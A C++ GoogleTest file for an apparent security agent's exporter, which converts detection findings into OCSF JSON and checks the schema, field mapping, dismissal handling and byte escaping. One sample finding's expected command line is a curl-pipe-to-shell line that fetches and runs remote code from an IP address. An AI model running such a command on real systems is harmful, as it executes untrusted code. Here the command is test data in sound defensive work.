// SPDX-License-Identifier: Apache-2.0
#include "exporters/schema/ocsf.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <nlohmann/json.hpp>

#include "agent/base/utf8.h"
#include "exporters/schema/encode.h"
#include "tests/support/events/ocsf_validator.h"
#include "tests/support/events/sample_events.h"

namespace vedette {
namespace {

using nlohmann::json;
using testing::Contains;
using testing::HasSubstr;
using testing::IsEmpty;

TEST(OcsfTest, EverythingEmittedObeysTheSchema) {
  for (const pb::Event& event : SampleFindings()) {
    EXPECT_THAT(OcsfErrors(OcsfJson(event)), IsEmpty()) << OcsfJson(event);
    EXPECT_EQ(OcsfJson(event), EncodeJson(event));
  }
  pb::Event empty;
  empty.set_time_unix_ns(SampleFindings()[0].time_unix_ns());
  empty.mutable_finding();
  EXPECT_THAT(OcsfErrors(OcsfJson(empty)), IsEmpty()) << OcsfJson(empty);
}

TEST(OcsfTest, TheWholeStoryIsThere) {
  const json event = json::parse(OcsfJson(SampleFindings()[0]));
  EXPECT_EQ(event["type_uid"], 200401);
  EXPECT_EQ(event["severity_id"], 4);
  EXPECT_EQ(event["time"], 1'780'000'000'123);
  EXPECT_EQ(event["metadata"]["uid"], "f-1/1");
  EXPECT_EQ(event["finding_info"]["uid"], "f-1");
  EXPECT_EQ(event["risk_score"], 13);
  EXPECT_EQ(event["unmapped"]["score_bits"], 13.25);
  EXPECT_EQ(event["device"]["hostname"], "node-1");
  const json& process = event["evidences"][0]["process"];
  EXPECT_EQ(process["file"]["hashes"][0]["value"], std::string(64, 'a'));
  EXPECT_EQ(process["cmd_line"], "sh -c curl http://198.51.100.7/x | sh");
  EXPECT_EQ(process["user"]["uid"], "33");
  EXPECT_EQ(process["parent_process"]["pid"], 4200);
  EXPECT_EQ(process["parent_process"]["parent_process"]["pid"], 900);
  const json& oldest = process["parent_process"]["parent_process"]["parent_process"];
  EXPECT_EQ(oldest["pid"], 1);
  EXPECT_EQ(oldest["xattributes"]["unknown"], true);
  EXPECT_FALSE(oldest.contains("parent_process"));
  EXPECT_EQ(event["resources"][0]["name"], "host/system.slice/nginx.service");
  EXPECT_EQ(event["resources"][0]["uid"], "spiffe://local/host/system.slice/nginx.service");
}

TEST(OcsfTest, ARepeatIsAnUpdateOfTheSameFinding) {
  const json event = json::parse(OcsfJson(SampleFindings()[1]));
  EXPECT_EQ(event["type_uid"], 200402);
  EXPECT_EQ(event["activity_name"], "Update");
  EXPECT_EQ(event["count"], INT32_MAX);
}

TEST(OcsfTest, WhatAPersonDismissedIsSuppressedAndWhatIsRestoredIsNewAgain) {
  const std::vector<pb::Event> samples = SampleFindings();
  const json dismissed = json::parse(OcsfJson(samples[samples.size() - 2]));
  EXPECT_EQ(dismissed["type_uid"], 200402);
  EXPECT_EQ(dismissed["status_id"], 3);
  EXPECT_EQ(dismissed["status"], "Suppressed");
  EXPECT_EQ(dismissed["status_detail"], "dismissed by root");
  EXPECT_EQ(dismissed["comment"], "ours \\xff\n");
  EXPECT_EQ(dismissed["unmapped"]["dismissal"]["user"], "root");
  EXPECT_EQ(dismissed["unmapped"]["default_profile"], "login session");
  const json restored = json::parse(OcsfJson(samples.back()));
  EXPECT_EQ(restored["status_id"], 1);
  EXPECT_EQ(restored["status_detail"], "restored by root");
  EXPECT_FALSE(restored.contains("comment"));
  EXPECT_FALSE(restored["unmapped"].contains("dismissal"));
}

TEST(OcsfTest, HostileBytesReadBackAndHarmNobody) {
  const pb::Event event = SampleFindings()[1];
  const std::string text = OcsfJson(event);
  for (const char c : text) {
    ASSERT_TRUE(c >= 0x20 && c < 0x7f) << text;
  }
  const json parsed = json::parse(text);
  const json& process = parsed["evidences"][0]["process"];
  EXPECT_EQ(BytesFromText(process["path"].get<std::string>()),
            event.finding().process().code().path());
  EXPECT_EQ(BytesFromText(process["xattributes"]["script"].get<std::string>()), "\\xff");
  EXPECT_EQ(BytesFromText(parsed["unmapped"]["argv"][3].get<std::string>()),
            event.finding().process().argv(3));
}

TEST(OcsfTest, TheSourceIsWhoOpensTheConnection) {
  const json outbound = json::parse(OcsfJson(SampleFindings()[2]))["evidences"][0];
  EXPECT_EQ(outbound["src_endpoint"]["ip"], "10.0.0.5");
  EXPECT_EQ(outbound["dst_endpoint"]["hostname"], "db.example");
  EXPECT_EQ(outbound["connection_info"]["direction_id"], 2);
  EXPECT_EQ(outbound["connection_info"]["protocol_num"], 17);
  EXPECT_EQ(outbound["container"]["runtime"], "containerd");
  const json inbound = json::parse(OcsfJson(SampleFindings()[3]))["evidences"][0];
  EXPECT_EQ(inbound["src_endpoint"]["port"], 443);
  EXPECT_EQ(inbound["dst_endpoint"]["port"], 8080);
  EXPECT_EQ(inbound["connection_info"]["protocol_ver_id"], 6);
  EXPECT_EQ(json::parse(OcsfJson(SampleFindings()[2]))["resources"][0]["namespace"], "shop");
}

// The validator is what the tests above rest on, so each of its rules is shown to bite.
TEST(OcsfValidatorTest, EachRuleBites) {
  const json good = json::parse(OcsfJson(SampleFindings()[2]));
  const auto errors_after = [&good](const char* patch) {
    json bad = good;
    bad.merge_patch(json::parse(patch));
    return OcsfErrors(bad.dump());
  };
  EXPECT_THAT(errors_after(R"({"nonsense": 1})"), Contains(HasSubstr("nonsense is not an attr")));
  EXPECT_THAT(errors_after(R"({"finding_info": {"uid": null}})"),
              Contains(HasSubstr("finding_info.uid is required")));
  EXPECT_THAT(errors_after(R"({"message": 5})"), Contains(HasSubstr("not a string")));
  EXPECT_THAT(errors_after(R"({"severity_id": 42})"), Contains(HasSubstr("enum")));
  EXPECT_THAT(errors_after(R"({"type_uid": 200402})"), Contains(HasSubstr("type_uid")));
  EXPECT_THAT(errors_after(R"({"time": 1780000000})"), Contains(HasSubstr("milliseconds")));
  EXPECT_THAT(errors_after(R"({"metadata": {"profiles": []}})"),
              Contains(HasSubstr("needs profile \"linux_users\"")));
  EXPECT_THAT(errors_after(R"({"resources": [{"type": "x"}]})"),
              Contains(HasSubstr("at_least_one")));
  EXPECT_THAT(errors_after(R"({"evidences": {}})"), Contains(HasSubstr("not an array")));
  EXPECT_THAT(errors_after(R"({"device": {"ip": "no address"}})"), Contains(HasSubstr("format")));
  EXPECT_THAT(errors_after(R"({"count": 3000000000})"), Contains(HasSubstr("32 bits")));
  EXPECT_THAT(errors_after(R"({"class_uid": 1})"), Contains(HasSubstr("class_uid")));
  EXPECT_THAT(OcsfErrors("{"), Contains("not a JSON object"));
}

}  // namespace
}  // namespace vedette
